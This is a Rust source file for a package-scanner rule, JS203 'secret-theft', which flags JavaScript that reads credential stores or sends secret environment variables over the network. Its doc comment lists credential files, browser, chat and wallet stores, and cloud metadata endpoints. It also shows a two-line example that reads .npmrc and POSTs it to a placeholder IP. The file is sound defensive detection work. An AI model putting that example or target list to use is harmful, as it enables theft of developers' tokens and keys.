//! JS203 `secret-theft`: credential stores read (and sent).
//!
//! **What it detects.** Reads of credential stores — `.npmrc`, `.pypirc`,
//! `.git-credentials`, `~/.ssh/`, `~/.aws`, `.config/gcloud`,
//! `~/.kube/config`, `.docker/config.json`; Chromium profiles (`Login
//! Data`, `Cookies`, `Local State`, `Local Extension Settings`), Firefox
//! profiles (`key4.db`, `cookies.sqlite`); Discord `Local Storage/leveldb`,
//! Telegram `tdata`; wallets (Exodus, Electrum, `wallet.dat`, the MetaMask
//! and Phantom extension ids) — and requests to the cloud instance-metadata
//! service (`169.254.169.254`, `metadata.google.internal`), and
//! secret-looking environment variables (`NPM_TOKEN`, `GITHUB_TOKEN`,
//! `AWS_SECRET_ACCESS_KEY`) flowing into a network request or DNS query.
//!
//! **Why it matters.** Stolen npm and GitHub tokens are how worms like
//! Shai-Hulud (2025) and the 2018 `eslint-scope` compromise spread; the
//! seed's `jeilyfish` stole SSH and GPG keys. CWE-522, MITRE T1552.
//!
//! **Example.**
//! ```js
//! const t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
//! fetch('https://198.51.100.4/c', { method: 'POST', body: t });
//! ```
//!
//! **False positives.** npm configuration readers (`registry-auth-token`,
//! `@npmcli/config`) read `.npmrc`; cloud SDKs query the metadata service
//! (a read, not a theft, unless the answer is sent elsewhere); release tools send `GITHUB_TOKEN` to
//! GitHub, API clients send `…_TOKEN` variables in headers. A read that is
//! not sent is Low in library code (Medium where it runs unasked); a secret
//! variable sent out is Low unless an install script sends it (Medium) or
//! it goes out through DNS (High).

use sluice_model::{Confidence, Finding, Severity};

use super::facts::label;
use super::{Ctx, api, network_sinks};

pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
    let f = ctx.facts;
    let mut out = Vec::new();
    let sinks = network_sinks(f);
    // Credential files read, and requests to the cloud metadata service
    // (instance credentials, service-account tokens).
    let reads: Vec<_> = f
        .calls
        .iter()
        .filter_map(|c| {
            let p = c.path.as_deref()?;
            if api::is_fs_read(p) {
                f.args_marker(c, api::secret_marker).map(|m| (c, m))
            } else if api::is_network(p) {
                f.args_marker(c, api::imds_marker).map(|m| (c, m))
            } else {
                None
            }
        })
        .collect();
    // A request to the metadata service is where credentials come from,
    // not where they go.
    let sent = sinks
        .iter()
        .find(|(c, l)| l & label::SECRET != 0 && !reads.iter().any(|(r, _)| r.node == c.node));
    let paths = reads.iter().map(|(_, m)| *m).collect::<Vec<_>>().join(", ");
    if let Some((sink, _)) = sent {
        let sev = if ctx.unasked() {
            Severity::Critical
        } else {
            Severity::High
        };
        let mut fi = ctx.finding(
            sink.node,
            "JS203",
            "secret-theft",
            sev,
            Confidence::High,
            "credential file contents are sent out",
        );
        if let Some((read, marker)) = reads.first() {
            fi = fi.evidence(format!(
                "reads {marker} at line {}",
                f.line_col(read.node).0
            ));
        }
        if !paths.is_empty() {
            fi = fi.evidence(format!("credential paths read: {paths}"));
        }
        out.push(fi);
    } else if let Some((read, marker)) = reads.first() {
        let sev = if ctx.unasked() {
            Severity::Medium
        } else {
            Severity::Low
        };
        out.push(
            ctx.finding(
                read.node,
                "JS203",
                "secret-theft",
                sev,
                Confidence::Medium,
                format!("reads a credential store ({marker})"),
            )
            .evidence(format!("credential paths read: {paths}")),
        );
    }
    if let Some((sink, l)) = sinks.iter().find(|(_, l)| l & label::SECENV != 0) {
        let dns = sink.path.as_deref().is_some_and(api::is_dns);
        let (sev, conf) = if dns {
            (Severity::High, Confidence::High)
        } else if ctx.file.role == crate::FileRole::Install {
            // API clients send tokens from the environment in headers; only
            // an install script doing so is unusual.
            (Severity::Medium, Confidence::Low)
        } else {
            (Severity::Low, Confidence::Low)
        };
        out.push(
            ctx.finding(
                sink.node,
                "JS203",
                "secret-theft",
                sev,
                conf,
                "secret environment variables are sent out",
            )
            .evidence(format!(
                "sends: {}",
                label::names(*l & (label::SECENV | label::RECON)).join(", ")
            )),
        );
    }
    out
}
